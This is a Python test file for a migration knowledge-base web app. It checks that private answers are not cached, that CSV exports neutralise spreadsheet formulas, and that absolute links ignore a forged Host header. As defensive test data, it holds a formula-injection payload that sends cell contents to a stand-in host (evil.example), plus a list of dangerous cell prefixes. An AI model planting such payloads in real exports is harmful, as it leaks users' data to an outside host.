"""What leaves the server beside the pages themselves (issue 19, items 5, 7, 8, 9): private answers are never
cached, CSV cells never run as formulas, "did you mean" speaks only of what is published now, and absolute
links never come from the request's Host header."""

from __future__ import annotations

import csv
import io
import time

import pytest

from migration_kb import accounts
from migration_kb.records import validate_entry
from migration_kb.spreadsheets import safe_cell
from migration_kb.store import save_entry
from migration_kb.web import create_app
from migration_kb.web.startup import stop
from tests.experts import add_people, csrf, entry_fields, signed_in

PRIVATE_ENTRY = "private-unpublished-entry"


# -- 5: private answers are not cached -------------------------------------------------------------------------
@pytest.fixture(scope="module")
def private_things(app):
    add_people(app, {"rae": "rapporteur", "eli": "expert"})
    rae, eli = signed_in(app, "rae"), signed_in(app, "eli")
    fields = entry_fields(csrf(eli, "/entries/new"), id=PRIVATE_ENTRY, title="An unpublished practice")
    assert eli.post("/entries/new", data=fields).status_code == 302
    created = rae.post("/drafts", data={"csrf_token": csrf(rae, "/drafts"), "title": "Conclusions"})
    assert created.status_code == 302
    draft_id = int(created.headers["Location"].rstrip("/").split("/")[-1])
    with app.extensions["migration_kb"].db.session() as s:
        tokens = {name: accounts.new_token(s, accounts.find_user(s, name), "t") for name in ("rae", "eli")}
    return {"rae": rae, "eli": eli, "draft": draft_id, "tokens": tokens}


def test_every_private_answer_says_no_store(app, private_things):
    rae, eli, draft = private_things["rae"], private_things["eli"], private_things["draft"]
    pages = {rae: ["/drafts", f"/drafts/{draft}", f"/drafts/{draft}/history", f"/drafts/{draft}/history/1",
                   f"/drafts/{draft}/export?format=md", f"/drafts/{draft}/export?format=html",
                   f"/drafts/{draft}/export?format=docx", "/findings", "/"],
             eli: [f"/entries/{PRIVATE_ENTRY}", f"/entries/{PRIVATE_ENTRY}.json", f"/entries/{PRIVATE_ENTRY}.md",
                   "/desk", "/entries/mercosur-residence-agreement"]}
    for client, paths in pages.items():
        for path in paths:
            response = client.get(path)
            assert response.status_code == 200, path
            assert response.headers.get("Cache-Control") == "no-store", path
    api = [("rae", f"/api/v1/drafts/{draft}"), ("rae", "/api/v1/drafts"), ("rae", f"/api/v1/drafts/{draft}/export"),
           ("eli", f"/api/v1/entries/{PRIVATE_ENTRY}")]
    for name, path in api:
        response = app.test_client().get(path, headers={"Authorization": f"Bearer {private_things['tokens'][name]}"})
        assert response.status_code == 200, path
        assert response.headers.get("Cache-Control") == "no-store", path


def test_public_answers_to_the_anonymous_stay_cacheable(client):
    for path in ("/", "/entries/mercosur-residence-agreement", "/api/v1/entries/mercosur-residence-agreement"):
        assert "no-store" not in client.get(path).headers.get("Cache-Control", ""), path


# -- 7: CSV cells that a spreadsheet would run ---------------------------------------------------------------
@pytest.mark.parametrize("value, written", [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("A plain title", "A plain title"), ("2004", "2004"), (2004, "2004"), (None, ""), ("a=b", "a=b")])
def test_formula_cells_are_neutralised(value, written):
    assert safe_cell(value) == written


def test_search_csv_neutralises_a_formula_in_a_title(app, private_things):
    eli = private_things["eli"]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with app.extensions["migration_kb"].db.session() as s:
        entry = validate_entry({"id": "formula-title", "title": formula, "summary": "@SUM(1+1)", "language": "en",
                                "themes": ["protection"], "countries": ["MX", "GT"],
                                "sources": [{"title": "A law", "publisher": "A state"}],
                                "findings": [{"kind": "strength", "text": "Clear."}]})
        save_entry(s, entry, state="published")
    app.extensions["migration_kb"].written()
    for _ in range(100):
        rows = list(csv.reader(io.StringIO(eli.get("/search.csv?q=HYPERLINK").get_data(as_text=True))))
        if len(rows) > 1:
            break
        time.sleep(0.05)
    found = [row for row in rows[1:] if row[0] == "formula-title"]
    assert found and found[0][1] == "'" + formula and found[0][2] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


# -- 9: the Host header is not trusted -----------------------------------------------------------------------
EVIL = "evil.example"


def test_a_configured_public_url_names_every_absolute_link(kb_instance, monkeypatch):
    monkeypatch.setenv("MIGRATION_KB_PUBLIC_URL", "https://kb.example.org")
    app = create_app(kb_instance, testing=True)
    client = app.test_client()
    robots = client.get("/robots.txt", headers={"Host": EVIL}).get_data(as_text=True)
    assert "Sitemap: https://kb.example.org/sitemap.xml" in robots
    page = client.get("/entries/mercosur-residence-agreement", headers={"Host": EVIL}).get_data(as_text=True)
    assert 'hreflang="es" href="https://kb.example.org/entries/mercosur-residence-agreement?lang=es"' in page
    assert 'rel="canonical" href="https://kb.example.org/entries/mercosur-residence-agreement"' in page
    assert EVIL not in page and EVIL not in client.get("/sitemap.xml", headers={"Host": EVIL}).get_data(as_text=True)
    stop(app)


def test_without_a_public_url_only_trusted_hosts_are_answered(kb_instance, monkeypatch):
    monkeypatch.setenv("MIGRATION_KB_TRUSTED_HOSTS", "kb.example.org, localhost")
    app = create_app(kb_instance, testing=True)
    client = app.test_client()
    assert client.get("/robots.txt", headers={"Host": EVIL}).status_code == 400
    robots = client.get("/robots.txt", headers={"Host": "kb.example.org"})
    assert robots.status_code == 200 and "http://kb.example.org/sitemap.xml" in robots.get_data(as_text=True)
    stop(app)


@pytest.mark.parametrize("url", ["ftp://kb.example.org", "https://kb.example.org/kb", "kb.example.org",
                                 "https://user:pw@kb.example.org"])
def test_a_public_url_with_a_path_or_another_scheme_is_refused_at_start(kb_instance, monkeypatch, url):
    from migration_kb.web.public_url import PublicURLError

    monkeypatch.setenv("MIGRATION_KB_PUBLIC_URL", url)
    with pytest.raises(PublicURLError):
        create_app(kb_instance, testing=True)
